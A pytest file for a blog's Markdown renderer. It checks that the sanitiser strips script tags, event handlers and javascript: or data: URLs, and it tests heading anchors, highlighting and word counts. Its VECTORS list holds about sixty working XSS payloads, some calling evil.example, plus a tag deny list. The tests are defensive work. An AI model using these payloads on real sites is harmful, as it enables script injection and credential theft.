"""Markdown becomes HTML, and nothing that it becomes can do anything in a page."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from jsonapi_blog.rendering import (
    first_heading,
    plain_text,
    reading_minutes,
    render,
    sanitised,
    word_count,
)

HARMFUL = {
    *("script", "style", "iframe", "object", "embed", "applet", "form", "input", "button", "svg"),
    *("math", "link", "meta", "base", "frame", "frameset", "template", "noscript", "video"),
    *("audio", "source", "textarea", "select", "marquee", "html", "head", "body", "title"),
}
ADDRESSES = {"href", "src", "cite", "action", "formaction", "background", "poster", "srcset"}

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script>alert(1)//",
    "`</code><script>alert(1)</script>`",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=javascript:alert(1)>",
    "<img srcset='javascript:alert(1) 2x' src=x>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '![a" onerror="alert(1)](https://a.example/x.png)',
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<td style='text-align:left;position:fixed;inset:0'>x</td>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<p id=x name=y onclick=alert(1) tabindex=0 onfocus=alert(1) autofocus>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    '# x {#a" onclick="alert(1)}',
    "<h1 id='x' onclick='alert(1)'>x</h1>",
]


class Elements(HTMLParser):
    """Every element of a document, as a browser would see it."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("turn", [render, sanitised])
@pytest.mark.parametrize("vector", VECTORS)
def test_what_could_act_in_a_page_is_dropped(turn, vector):
    elements = Elements(turn(vector)).found

    assert not HARMFUL & {tag for tag, _ in elements}
    for tag, attributes in elements:
        assert not [name for name in attributes if name.startswith("on")], tag
        assert attributes.get("style", "text-align").split(":")[0] == "text-align"
        assert ";" not in attributes.get("style", "")
        for name in ADDRESSES & attributes.keys():
            assert urlsplit(attributes[name]).scheme in ("", "http", "https", "mailto")


def test_links_tell_search_engines_not_to_follow_them():
    assert render("[x](https://a.example)") == (
        '<p><a href="https://a.example" rel="nofollow noopener noreferrer">x</a></p>\n'
    )


def test_tables_keep_their_alignment():
    html = render("a | b\n-: | -\n1 | ~~2~~")

    assert '<th style="text-align:right">a</th>' in html
    assert "<td><s>2</s></td>" in html


def test_fenced_code_gets_classes_for_its_tokens():
    html = render("```rust,ignore\nfn main() {}\n```")

    assert '<span class="k">fn</span>' in html


def test_code_in_an_unknown_language_stays_as_it_is():
    html = render("```klingon\n<b>\n```")

    assert html == '<pre><code class="language-klingon">&lt;b&gt;\n</code></pre>\n'


def test_very_long_code_is_not_highlighted():
    html = render("```python\n" + "pass\n" * 10_000 + "```")

    assert "<span" not in html


def test_headings_get_anchors_that_do_not_repeat():
    html = render("# Größe\n\n## Größe\n\n## grosse 1\n\n### *!*")

    assert [attributes["id"] for _, attributes in Elements(html).found if attributes] == [
        "grosse",
        "grosse-1",
        "grosse-1-1",
        "section",
    ]


def test_a_heading_may_name_its_anchor():
    assert render("# Why {#because}") == '<h1 id="because">Why</h1>\n'


def test_a_body_of_headings_alone_is_rendered_within_seconds():
    started = time.monotonic()

    render("# a\n" * 20_000)

    assert time.monotonic() - started < 10


def test_the_first_heading_is_found_without_its_markup():
    assert first_heading("text\n\n## A *new* `thing`\n\n# later") == "A new thing"
    assert first_heading("<h1 class=x>From <b>HTML</b></h1>\n") == "From HTML"
    assert first_heading("only text") is None


def test_plain_text_is_one_line_without_tags():
    assert plain_text("<p>a\n<b>b</b> &amp; c</p>") == "a b & c"


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("", 0),
        ("It's a well-known *fact*.", 4),
        ("[a link](https://example.org/some/long/path)", 2),
        ("<div class='a b c'>one</div>", 1),
        ("see https://example.org/a-b-c", 1),
        ("日本語のテキスト", 8),
        ("— … !", 0),
    ],
)
def test_words_are_what_a_reader_meets(markdown, words):
    assert word_count(markdown) == words


def test_reading_takes_at_least_a_minute_where_there_is_anything_to_read():
    assert [reading_minutes(words) for words in (0, 1, 219, 2200)] == [0, 1, 1, 10]
